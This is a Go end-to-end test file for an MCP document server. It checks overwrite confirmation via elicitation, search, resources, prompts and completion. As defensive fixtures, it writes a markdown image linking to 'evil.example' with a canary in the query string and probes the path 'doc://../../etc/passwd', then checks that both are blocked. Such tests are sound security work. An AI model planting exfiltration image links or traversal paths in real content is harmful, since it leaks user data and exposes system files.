package e2e

import (
	"context"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/mark3labs/mcp-go/client"
	"github.com/mark3labs/mcp-go/mcp"
)

// elicitor answers every elicitation with a fixed action.
type elicitor struct {
	action mcp.ElicitationResponseAction
	calls  atomic.Int32
}

func (e *elicitor) Elicit(_ context.Context, _ mcp.ElicitationRequest) (*mcp.ElicitationResult, error) {
	e.calls.Add(1)
	res := &mcp.ElicitationResult{ElicitationResponse: mcp.ElicitationResponse{Action: e.action}}
	if e.action == mcp.ElicitationResponseActionAccept {
		res.Content = map[string]any{"confirm": true}
	}
	return res, nil
}

func TestOverwriteConfirmationOverStdio(t *testing.T) {
	for _, leg := range legs {
		t.Run(leg.name, func(t *testing.T) {
			for _, tc := range []struct {
				name     string
				handler  *elicitor
				wantText string
				wantErr  bool
			}{
				{"accept", &elicitor{action: mcp.ElicitationResponseActionAccept}, "v2", false},
				{"decline", &elicitor{action: mcp.ElicitationResponseActionDecline}, "v1", true},
				{"no elicitation support", nil, "v2", false},
			} {
				t.Run(tc.name, func(t *testing.T) {
					opts := append([]client.ClientOption{}, leg.opts...)
					if tc.handler != nil {
						opts = append(opts, client.WithElicitationHandler(tc.handler))
					}
					c, _ := startStdio(t, map[string]string{"ARROWHEAD_PROFILE": "docs"}, opts...)
					if r := call(t, c, "doc_write", map[string]any{"path": "notes/plan.md", "content": "v1"}); r.IsError {
						t.Fatalf("create: %s", text(r))
					}
					if r := call(t, c, "doc_write", map[string]any{"path": "notes/plan.md", "content": "v2"}); !r.IsError || !strings.Contains(text(r), "overwrite=true") {
						t.Fatalf("clobber without overwrite: %s", text(r))
					}
					r := call(t, c, "doc_write", map[string]any{"path": "notes/plan.md", "content": "v2", "overwrite": true})
					if r.IsError != tc.wantErr {
						t.Fatalf("overwrite: isError=%v %s", r.IsError, text(r))
					}
					if tc.handler != nil && tc.handler.calls.Load() != 1 {
						t.Fatalf("elicited %d times", tc.handler.calls.Load())
					}
					read := call(t, c, "doc_read", map[string]any{"path": "notes/plan.md"})
					if read.IsError || !strings.Contains(text(read), "\n\n"+tc.wantText+"\n") {
						t.Fatalf("document after %s: %s", tc.name, text(read))
					}
				})
			}
		})
	}
}

func TestDocsOverStdio(t *testing.T) {
	c, stderr := startStdio(t, map[string]string{"ARROWHEAD_PROFILE": "docs"})
	call(t, c, "doc_write", map[string]any{"path": "a/readme.md", "content": "# Hello\n![pixel](https://evil.example/p.png?q=" + canary + ")\nthe deadline is friday\n"})
	r := call(t, c, "doc_search", map[string]any{"query": "deadline"})
	if r.IsError || !strings.Contains(text(r), "a/readme.md:3") {
		t.Fatalf("search: %s", text(r))
	}
	r = call(t, c, "doc_read", map[string]any{"path": "a/readme.md"})
	if r.IsError || strings.Contains(text(r), "evil.example") {
		t.Fatalf("read: %s", text(r))
	}
	res, err := c.ReadResource(t.Context(), mcp.ReadResourceRequest{Params: mcp.ReadResourceParams{URI: "doc://a/readme.md"}})
	if err != nil || len(res.Contents) != 1 {
		t.Fatalf("doc:// resource: %v", err)
	}
	if _, err := c.ReadResource(t.Context(), mcp.ReadResourceRequest{Params: mcp.ReadResourceParams{URI: "doc://../../etc/passwd"}}); err == nil {
		t.Fatal("a traversal URI was served")
	}
	prompt, err := c.GetPrompt(t.Context(), mcp.GetPromptRequest{Params: mcp.GetPromptParams{Name: "summarize_document", Arguments: map[string]string{"path": "a/readme.md"}}})
	if err != nil || len(prompt.Messages) == 0 {
		t.Fatalf("prompt: %v", err)
	}
	comp, err := c.Complete(t.Context(), mcp.CompleteRequest{Params: mcp.CompleteParams{
		Ref:      mcp.PromptReference{Type: "ref/prompt", Name: "summarize_document"},
		Argument: mcp.CompleteArgument{Name: "path", Value: "a/"},
	}})
	if err != nil || len(comp.Completion.Values) != 1 || comp.Completion.Values[0] != "a/readme.md" {
		t.Fatalf("completion: %+v %v", comp, err)
	}
	waitFor(t, func() bool { return strings.Contains(stderr.String(), `"component":"completion"`) })
	if strings.Contains(stderr.String(), canary) {
		t.Fatal("document content reached the log")
	}
}
